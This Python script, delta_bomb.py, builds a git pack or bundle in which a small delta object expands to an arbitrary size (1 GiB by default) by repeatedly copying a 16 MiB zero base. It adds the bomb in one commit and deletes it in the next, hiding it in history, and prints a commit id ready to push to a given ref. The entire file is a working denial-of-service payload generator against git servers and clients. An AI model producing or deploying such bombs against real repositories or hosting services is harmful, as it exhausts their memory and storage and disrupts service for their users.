"""Writes a small git pack or bundle with one file that expands to any size.

The file is a delta whose instructions copy a base of 16 MiB again and again, four bytes each. One commit has it, and the
next removes it. Prints the id of the second commit.

    delta_bomb.py work.bundle --expand 1073741824 --parent COMMIT --ref refs/heads/cynode/work
"""

import argparse
import hashlib
import struct
import zlib
from pathlib import Path

BASE_BYTES = 16 << 20
# The largest piece of the base that one instruction copies.
PIECE_BYTES = 0xFFFFFF
COPY_PIECE = b"\xf0\xff\xff\xff"
COMMIT, TREE, BLOB, OFS_DELTA = 1, 2, 3, 6


def object_id(kind: bytes, content: bytes) -> bytes:
    return hashlib.sha1(kind + b" %d\0" % len(content) + content).digest()


def expanded_id(pieces: int) -> bytes:
    """The id of the expanded file, without a second copy of it in memory."""
    digest = hashlib.sha1(b"blob %d\0" % (pieces * PIECE_BYTES))
    piece = bytes(PIECE_BYTES)
    for _ in range(pieces):
        digest.update(piece)
    return digest.digest()


def size_number(size: int) -> bytes:
    """A size in a delta: seven bits in each byte, lowest first."""
    out = bytearray()
    while True:
        out.append(size & 0x7F | (0x80 if size > 0x7F else 0))
        size >>= 7
        if not size:
            return bytes(out)


def entry_head(kind: int, size: int) -> bytes:
    """The head of an entry: its kind and four bits of its size, then seven bits in each byte."""
    first = kind << 4 | size & 0xF
    size >>= 4
    return bytes([first | 0x80]) + size_number(size) if size else bytes([first])


def offset_number(offset: int) -> bytes:
    """The distance to the base of a delta, highest bits first."""
    out = [offset & 0x7F]
    offset >>= 7
    while offset:
        offset -= 1
        out.append(0x80 | offset & 0x7F)
        offset >>= 7
    return bytes(reversed(out))


def commit_text(tree: bytes, parent: str | None, message: str) -> bytes:
    person = "A <a@example.com> 1700000000 +0000"
    above = f"parent {parent}\n" if parent else ""
    text = f"tree {tree.hex()}\n{above}author {person}\ncommitter {person}\n\n{message}\n"
    return text.encode()


def build_pack(expand: int, parent: str | None) -> tuple[bytes, str]:
    pieces = max(1, expand // PIECE_BYTES)
    base, readme = bytes(BASE_BYTES), b"hello\n"
    delta = size_number(BASE_BYTES) + size_number(pieces * PIECE_BYTES) + COPY_PIECE * pieces
    with_bomb = (
        b"100644 base\0" + object_id(b"blob", base) + b"100644 bomb\0" + expanded_id(pieces)
    )
    without = b"100644 README\0" + object_id(b"blob", readme)
    first = commit_text(object_id(b"tree", with_bomb), parent, "Add")
    first_id = object_id(b"commit", first).hex()
    second = commit_text(object_id(b"tree", without), first_id, "Remove")

    pack = bytearray(b"PACK" + struct.pack(">II", 2, 7))
    base_at = 0
    contents = [
        (COMMIT, second),
        (COMMIT, first),
        (TREE, without),
        (TREE, with_bomb),
        (BLOB, readme),
        (BLOB, base),
    ]
    for kind, content in contents:
        base_at = len(pack)
        pack += entry_head(kind, len(content)) + zlib.compress(content, 9)
    distance = offset_number(len(pack) - base_at)
    pack += entry_head(OFS_DELTA, len(delta)) + distance + zlib.compress(delta, 9)
    pack += hashlib.sha1(pack).digest()
    return bytes(pack), object_id(b"commit", second).hex()


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("out", type=Path)
    parser.add_argument("--expand", type=int, default=1 << 30, help="size of the file in bytes")
    parser.add_argument("--parent", help="commit that the first one follows")
    parser.add_argument("--ref", help="write a bundle with this ref; without it a pack is written")
    given = parser.parse_args()
    pack, commit = build_pack(given.expand, given.parent)
    head = ""
    if given.ref:
        needs = f"-{given.parent} Begin\n" if given.parent else ""
        head = f"# v2 git bundle\n{needs}{commit} {given.ref}\n\n"
    given.out.write_bytes(head.encode() + pack)
    print(commit)


if __name__ == "__main__":
    main()
